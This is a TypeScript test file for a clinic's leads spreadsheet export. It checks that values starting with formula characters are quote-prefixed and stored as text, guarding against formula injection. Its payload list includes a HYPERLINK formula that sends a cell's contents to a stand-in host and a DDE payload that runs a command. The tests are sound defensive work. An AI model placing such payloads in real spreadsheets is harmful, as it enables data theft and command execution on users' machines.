import type { Lead } from '@clinic/domain';
import * as XlsxModule from 'xlsx-js-style';
import { describe, expect, it } from 'vitest';

import { listedLead } from '../../testing/records';

import { type XlsxLibrary, buildLeadsWorkbook } from './export-leads';

const XLSX = ((XlsxModule as unknown as { default?: XlsxLibrary }).default ?? XlsxModule) as XlsxLibrary & typeof XlsxModule;

const lead = (id: number, name: string, origin: string): Lead => listedLead({ id, name, origin });

const HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Clique")', "=cmd|' /C calc'!A0", '+55 11 9', '-2+3', '@SUM(A1:A2)', '\tTab', '\rCR'];

/** One file of the written zip, as text. */
function zipEntry(bytes: Uint8Array, path: string): string {
  const container = XLSX.CFB.read(bytes, { type: 'array' }) as { FullPaths: string[]; FileIndex: { content: Uint8Array }[] };
  const entry = container.FileIndex[container.FullPaths.findIndex((p) => p.endsWith(`/${path}`))];
  return new TextDecoder().decode(entry!.content);
}

/** Cell reference → whether its style carries Excel's quote prefix, read from the written XML. */
function quotePrefixed(bytes: Uint8Array): Map<string, boolean> {
  const xfs = [...zipEntry(bytes, 'xl/styles.xml').match(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/)![1]!.matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
  const cells = [...zipEntry(bytes, 'xl/worksheets/sheet1.xml').matchAll(/<c r="([A-Z]+\d+)"(?: s="(\d+)")?/g)];
  return new Map(cells.map(([, ref, style]) => [ref!, /quotePrefix="1"/.test(xfs[Number(style ?? 0)] ?? '')]));
}

describe('leads workbook (issue 20, point 6: formulas neutralised as OWASP says)', () => {
  const leads = HOSTILE.map((text, i) => lead(i + 1, text, i % 2 ? text : 'instagram')).concat(lead(99, 'Ana Souza', 'FB = campanha'));
  const bytes = buildLeadsWorkbook(XLSX, leads);

  it('keeps every text as the person wrote it, and writes no formula', () => {
    const sheet = XLSX.read(bytes, { type: 'array' }).Sheets.Leads!;
    const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, defval: '' });
    expect(rows.slice(1).map((row) => [row[0], row[2]])).toEqual(leads.map((l) => [l.name, l.origin]));
    expect(zipEntry(bytes, 'xl/worksheets/sheet1.xml')).not.toContain('<f>');
  });

  it('marks the cells that start with = + - @ tab or CR with the quote prefix, and only those', () => {
    const marks = quotePrefixed(bytes);
    HOSTILE.forEach((_, i) => {
      expect([`A${i + 2}`, marks.get(`A${i + 2}`)]).toEqual([`A${i + 2}`, true]);
      expect([`C${i + 2}`, marks.get(`C${i + 2}`)]).toEqual([`C${i + 2}`, i % 2 === 1]);
      expect(marks.get(`B${i + 2}`)).toBe(false);
    });
    const last = HOSTILE.length + 2;
    expect([marks.get(`A${last}`), marks.get(`C${last}`), marks.get('A1')]).toEqual([false, false, false]);
  });

  it('reads back as a workbook whose guarded cells are text cells', () => {
    const sheet = XLSX.read(bytes, { type: 'array', cellStyles: true }).Sheets.Leads!;
    expect(sheet.A2).toMatchObject({ t: 's', v: HOSTILE[0], z: '@' });
    expect(sheet.A9).toMatchObject({ t: 's', v: 'Ana Souza' });
  });
});
